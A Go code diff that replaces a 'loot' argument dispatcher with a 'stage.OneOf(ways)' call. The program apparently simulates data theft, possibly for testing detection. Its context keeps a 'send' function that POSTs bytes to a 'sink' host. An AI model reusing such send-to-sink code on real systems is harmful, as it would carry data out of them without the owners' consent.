@@ -17,7 +17,6 @@ import (
 	"encoding/base64"
 	"encoding/json"
 	"errors"
-	"fmt"
 	"io/fs"
 	"net"
 	"net/http"
@@ -43,18 +42,7 @@ var ways = map[string]func(ctx context.Context) error{
 	hold: func(context.Context) error { return nil },
 }
 
-func main() { stage.Play(loot) }
-
-func loot(ctx context.Context) error {
-	if len(os.Args) < 2 {
-		return fmt.Errorf("usage: %s WAY", os.Args[0])
-	}
-	way, ok := ways[os.Args[1]]
-	if !ok {
-		return fmt.Errorf("no way %q", os.Args[1])
-	}
-	return way(ctx)
-}
+func main() { stage.Play(stage.OneOf(ways)) }
 
 func send(ctx context.Context, b []byte) error {
 	_, err := wire.Request(ctx, http.DefaultClient, http.MethodPost, "https://"+sink+"/u", b)
